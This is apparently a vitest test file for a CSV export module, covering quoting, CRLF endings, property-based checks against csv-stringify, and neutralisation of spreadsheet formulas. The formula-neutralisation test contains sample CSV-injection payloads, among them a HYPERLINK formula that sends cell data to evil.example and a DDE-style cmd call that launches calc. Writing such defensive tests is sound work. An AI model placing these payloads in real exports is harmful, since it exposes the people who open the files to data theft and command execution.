import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { stringify } from 'csv-stringify/sync';
import { csvCell, csvField, csvRecord, csvRowWriter, csvSafeCell, neutraliseFormula } from '../../src/export/csv-format.js';
import { parseCsvRows } from '../helpers/csv.js';

describe('csv format', () => {
  it('leaves plain fields, spaces and empty text as they are', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('  leading and trailing  ')).toBe('  leading and trailing  ');
    expect(csvField('')).toBe('');
    expect(csvField("it's; fine\ttabbed")).toBe("it's; fine\ttabbed");
  });

  it('quotes commas, quotes, CR and LF, doubling the quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('"')).toBe('""""');
    expect(csvField('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvField('line 1\r\nline 2')).toBe('"line 1\r\nline 2"');
    expect(csvField('ends in CR\r')).toBe('"ends in CR\r"');
    expect(csvField(' , ')).toBe('" , "');
    expect(csvField('\r')).toBe('"\r"');
  });

  it('writes null as an empty cell, distinct from nothing only by position', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell('')).toBe('');
    expect(csvRowWriter(['a', 'b', 'c'])({ a: null, b: '', c: 0 })).toBe(',,0\r\n');
  });

  it('writes numbers, booleans and arrays', () => {
    expect(csvCell(0)).toBe('0');
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(109.31328117)).toBe('109.31328117');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(false)).toBe('false');
    expect(csvCell([8, 7, 6])).toBe('"[8,7,6]"');
    expect(csvCell(['a'])).toBe('"[""a""]"');
  });

  it('writes a header and rows in the given column order, ending each record in CRLF', () => {
    expect(csvRecord(['date', 'notes, free text'])).toBe('date,"notes, free text"\r\n');
    const line = csvRowWriter(['recorded_date', 'weight_kg', 'notes']);
    expect(line({ notes: 'after "run"', weight_kg: 80.5, recorded_date: '2025-03-01', extra: 'ignored' })).toBe('2025-03-01,80.5,"after ""run"""\r\n');
    expect(line({})).toBe(',,\r\n');
  });

  const value = fc.oneof(
    fc.constant(null),
    fc.boolean(),
    fc.double({ noNaN: true }),
    fc.integer(),
    fc.string({ unit: fc.constantFrom('a', ' ', ',', '"', '\r', '\n', 'é', '\t', "'", '=') }),
    fc.string({ unit: 'grapheme' }),
    fc.array(fc.integer(), { maxLength: 4 }),
  );

  // csv-stringify with `record_delimiter: 'windows'` alone quotes only CRLF, leaving a lone LF or
  // CR bare, which readers take as the end of the record; these must be quoted too.
  it('writes the same bytes as csv-stringify quoting every CR and LF, and reads back to the same cells', () => {
    const reference = (v: unknown) => (v === null ? '' : typeof v === 'boolean' ? (v ? 'true' : 'false') : typeof v === 'object' ? JSON.stringify(v) : String(v));
    fc.assert(
      fc.property(fc.array(fc.array(value, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 5 }), (records) => {
        const width = records[0]!.length;
        const rows = records.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? null));
        const columns = Array.from({ length: width }, (_, i) => `c${i}`);
        const line = csvRowWriter(columns, { raw: true });
        const mine = rows.map((r) => line(Object.fromEntries(r.map((v, i) => [`c${i}`, v])))).join('');
        const cells = rows.map((r) => r.map(reference));
        expect(mine).toBe(stringify(cells, { record_delimiter: 'windows', quote_record_delimiter: true }));
        expect(parseCsvRows(csvRecord(columns) + mine)).toEqual([columns, ...cells]);
      }),
      { numRuns: 500 },
    );
  });

  it('puts a quote before text a spreadsheet would run as a formula', () => {
    expect(neutraliseFormula('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`);
    expect(neutraliseFormula('+cmd|\' /C calc\'!A0')).toBe(`'+cmd|' /C calc'!A0`);
    expect(neutraliseFormula('@SUM(A1:A9)')).toBe(`'@SUM(A1:A9)`);
    expect(neutraliseFormula('-2+3')).toBe(`'-2+3`);
    expect(neutraliseFormula('\t=1+1')).toBe(`'\t=1+1`);
    expect(neutraliseFormula('\r=1+1')).toBe(`'\r=1+1`);
    expect(csvSafeCell('=1+1,2')).toBe(`"'=1+1,2"`);
  });

  it('leaves numbers, text that is just a number, and other text as they are', () => {
    expect(csvSafeCell(-2)).toBe('-2');
    expect(csvSafeCell(-0.5)).toBe('-0.5');
    expect(neutraliseFormula('-12.5')).toBe('-12.5');
    expect(neutraliseFormula('+3')).toBe('+3');
    expect(neutraliseFormula('a = b')).toBe('a = b');
    expect(neutraliseFormula('')).toBe('');
    expect(neutraliseFormula("'=already quoted")).toBe("'=already quoted");
    expect(csvRowWriter(['a', 'b'])({ a: '=1+1', b: -3 })).toBe(`'=1+1,-3\r\n`);
    expect(csvRowWriter(['a', 'b'], { raw: true })({ a: '=1+1', b: -3 })).toBe('=1+1,-3\r\n');
  });

  it('in the default mode writes what the raw mode writes, with only formula text changed', () => {
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), (cells) => {
        const columns = cells.map((_, i) => `c${i}`);
        const row = Object.fromEntries(cells.map((v, i) => [`c${i}`, v]));
        const safe = parseCsvRows(csvRowWriter(columns)(row))[0]!;
        const raw = parseCsvRows(csvRowWriter(columns, { raw: true })(row))[0]!;
        safe.forEach((cell, i) => expect(cell).toBe(typeof cells[i] === 'string' ? neutraliseFormula(raw[i]!) : raw[i]));
      }),
      { numRuns: 300 },
    );
  });
});
